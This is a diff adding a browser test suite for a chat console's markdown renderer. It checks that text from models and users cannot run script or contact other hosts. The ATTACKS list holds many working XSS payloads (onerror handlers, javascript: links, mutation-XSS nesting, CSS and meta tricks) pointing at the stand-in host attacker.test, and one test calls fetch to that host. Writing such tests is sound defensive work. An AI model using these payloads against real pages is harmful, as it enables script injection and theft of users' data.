@@ -1,0 +1,184 @@
+"""The built-in page: what it makes of the texts of models and people, harmful ones included."""
+
+from __future__ import annotations
+
+import pytest
+from playwright.async_api import expect
+
+from chatcore_memory import DONE_FRAME, PAUSE, token_frame
+from tests.browser.console_page import ConsolePage
+from tests.integration.entrypoints.chatcore_service.http_server import ALICE, LiveService
+
+#: Each text would call `attacked()` or ask another host for something, if the page let it.
+ATTACKS = (
+    "<script>attacked()</script>",
+    "<img src=x onerror=attacked()>",
+    "<img src=https://attacker.test/seen>",
+    "![seen](https://attacker.test/seen)",
+    "<svg onload=attacked()><animate onbegin=attacked() attributeName=x></svg>",
+    "<iframe srcdoc='<script>parent.attacked()</script>'></iframe>",
+    "<a href='javascript:attacked()'>press</a> [press](javascript:attacked()) <javascript:attacked()>",
+    "<form action='https://attacker.test'><input name=attributes><button>press</button></form>",
+    "<style>@import 'https://attacker.test/css'; * { background: url(https://attacker.test/x) }</style>",
+    "<p style='position:fixed;inset:0'>over everything</p>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=attacked()></style></mglyph></table></mtext></math>",
+    "```html\n<img src=x onerror=attacked()>\n```",
+    "```<img src=x onerror=attacked()>\ncode\n```",
+    "<details open ontoggle=attacked()>x</details>",
+    "<div id=message class=problem>looks like ours</div>",
+    "$<img src=x onerror=attacked()>$ \\(<img src=x onerror=attacked()>\\)",
+    "<link rel=stylesheet href=https://attacker.test/css><base href=https://attacker.test>",
+    "<meta http-equiv=refresh content='0;url=https://attacker.test'>",
+    "<video poster=https://attacker.test/x src=https://attacker.test/x></video><audio src=https://attacker.test/x>",
+)
+WATCH = "(() => { window.attacks = 0; window.attacked = () => { window.attacks += 1; }; })()"
+
+RENDERED = """(() => {
+  const place = document.createElement("div");
+  place.append(module.rendered(argument));
+  return place.innerHTML;
+})()"""
+
+
+async def require_unharmed(console: ConsolePage) -> None:
+    links = await console.log.locator("a[href]").evaluate_all("(links) => links.map((link) => link.protocol)")
+    assert set(links) <= {"https:", "http:", "mailto:"}
+    assert await console.page.evaluate("window.attacks") == 0
+    forbidden = "script, img, svg, iframe, form, style, link, base, meta, video, audio, math, [style], [id], [onclick]"
+    assert await console.texts.locator(forbidden).count() == 0
+    assert await console.texts.locator(".problem").count() == 0
+    await expect(console.field).to_be_visible()
+
+
+async def test_a_reply_can_do_no_harm_while_it_is_written_and_when_it_is_whole(
+    console: ConsolePage, service: LiveService
+) -> None:
+    await console.page.evaluate(WATCH)
+    for number, attack in enumerate(ATTACKS):
+        half = len(attack) // 2
+        service.inference.play(
+            token_frame(f"Before {number}\n\n{attack[:half]}"),
+            PAUSE,
+            token_frame(f"{attack[half:]}\n\nAfter"),
+            DONE_FRAME,
+        )
+        await console.send("Hello")
+        await expect(console.texts.last).to_contain_text(f"Before {number}")
+        await require_unharmed(console)
+        service.inference.release()
+        await expect(console.log).to_have_attribute("aria-busy", "false")
+        await require_unharmed(console)
+
+    # The policy also reports what it stops in the document in which the page takes a text apart.
+    assert [error for error in console.tab.errors if "olicy" not in error] == []
+    console.tab.errors.clear()
+
+
+async def test_titles_messages_reasoning_and_data_are_text(console: ConsolePage, service: LiveService) -> None:
+    await console.page.evaluate(WATCH)
+    attack = "<img src=x onerror=attacked()><b>bold</b>"
+    service.inference.play(
+        b'data: {"reasoning":"<img src=x onerror=attacked()>"}\n\n',
+        b'data: {"tool_calls":[{"function":{"name":"<img src=x onerror=attacked()>"}}]}\n\n',
+        token_frame("Text"),
+        DONE_FRAME,
+    )
+    await console.send(attack)
+
+    await expect(console.titles).to_have_text([attack])
+    await expect(console.asked).to_have_text([attack])
+    await expect(console.page.get_by_role("heading", name=attack)).to_be_visible()
+    await expect(console.replies.get_by_text("Used <img src=x onerror=attacked()>")).to_be_visible()
+    await require_unharmed(console)
+
+
+async def test_a_script_cannot_write_html_into_the_page(console: ConsolePage) -> None:
+    written = await console.page.evaluate(
+        "(() => { try { document.body.innerHTML = '<b>x</b>'; return true; } catch { return false; } })()"
+    )
+
+    assert written is False
+    console.tab.errors.clear()
+
+
+async def test_a_page_cannot_send_what_it_knows_to_another_host(console: ConsolePage) -> None:
+    sent = await console.page.evaluate("fetch('https://attacker.test/').then(() => true, () => false)")
+
+    assert sent is False
+    assert any("connect-src" in error for error in console.tab.errors)
+    console.tab.errors.clear()
+
+
+@pytest.mark.parametrize(
+    ("source", "expected"),
+    [
+        ("**bold** and `code`", '<p dir="auto"><strong>bold</strong> and <code>code</code></p>\n'),
+        ("one\ntwo", '<p dir="auto">one<br>two</p>\n'),
+        ("H<sub>2</sub>O", '<p dir="auto">H<sub>2</sub>O</p>\n'),
+        (
+            "[link](https://a.test/x)",
+            '<p dir="auto"><a href="https://a.test/x" target="_blank" rel="noopener noreferrer">link</a></p>\n',
+        ),
+        ("[here](/api/export)", '<p dir="auto"><a>here</a></p>\n'),
+        ("It costs $5 and $10_000.", '<p dir="auto">It costs $5 and $10_000.</p>\n'),
+        ("$a_1 * b_2 * c$", '<p dir="auto">$a_1 * b_2 * c$</p>\n'),
+        ("Say \\(x_1 * y_1\\).", '<p dir="auto">Say \\(x_1 * y_1\\).</p>\n'),
+        ("\\[x_1 * y_1\\]", '<p dir="auto">\\[x_1 * y_1\\]</p>\n'),
+        ("$$\nx_1 * y\n\\frac{1}{2}\n$$", '<p dir="auto">$$\nx_1 * y\n\\frac{1}{2}\n$$</p>\n'),
+        ("`$a_1$`", '<p dir="auto"><code>$a_1$</code></p>\n'),
+    ],
+)
+async def test_markdown_becomes_what_people_expect(console: ConsolePage, source: str, expected: str) -> None:
+    assert await console.evaluate("markdown/blocks.js", RENDERED, source) == expected
+
+
+async def test_a_text_that_grows_ends_as_if_it_had_been_there_at_once(console: ConsolePage) -> None:
+    source = (
+        "# Title\r\n\r\nA *paragraph* with\nlines.\n\n- one\n- two\n\n  more of two\n\n1. a\n2. b\n\n"
+        "```js\nconst x = 1;\n\nconst y = 2;\n```\n\n> quoted\n> more\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
+        "See [it][1] and ~~that~~.\n\nSetext\n======\n\n[1]: https://a.test\n\n<details><summary>x</summary>\n\ny\n\n"
+        "</details>\n\nThe **end**."
+    )
+    show = """(async () => {
+      const show = async (texts) => {
+        const element = document.createElement("markdown-text");
+        element.growing = true;
+        document.body.append(element);
+        for (const text of texts) {
+          element.text = text;
+          await new Promise((resolve) => setTimeout(resolve, 1));
+        }
+        element.growing = false;
+        await new Promise((resolve) => setTimeout(resolve, 300));
+        element.remove();
+        return element.textContent.replace(/\\s+/g, " ");
+      };
+      const prefixes = [...argument].map((_, index) => argument.slice(0, index + 1));
+      return [await show(prefixes), await show([argument])];
+    })()"""
+
+    grown, at_once = await console.evaluate("markdown/markdown-text.js", show, source)
+    assert grown == at_once
+    assert "See it and that." in grown
+
+
+async def test_code_is_copied_and_its_language_is_shown(console: ConsolePage, service: LiveService) -> None:
+    await console.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
+    service.inference.say("```python\nprint(1 < 2)\n```")
+    await console.send("Hello")
+    await expect(console.texts.locator(".hljs-built_in")).to_have_text("print")
+
+    await console.button("Copy").click()
+
+    await expect(console.button("Copied")).to_be_visible()
+    assert await console.page.evaluate("navigator.clipboard.readText()") == "print(1 < 2)\n"
+    await expect(console.texts.locator(".code-header")).to_contain_text("python")
+
+
+async def test_a_user_sees_markup_as_typed(console: ConsolePage, service: LiveService) -> None:
+    path = await service.conversation()
+    await service.client.post(f"{path}/messages", json={"content": "**not bold**\n  indented"}, headers=ALICE)
+
+    await console.load(f"#/c/{path.rpartition('/')[2]}")
+
+    await expect(console.asked.locator("p")).to_have_text("**not bold**\n  indented", use_inner_text=True)
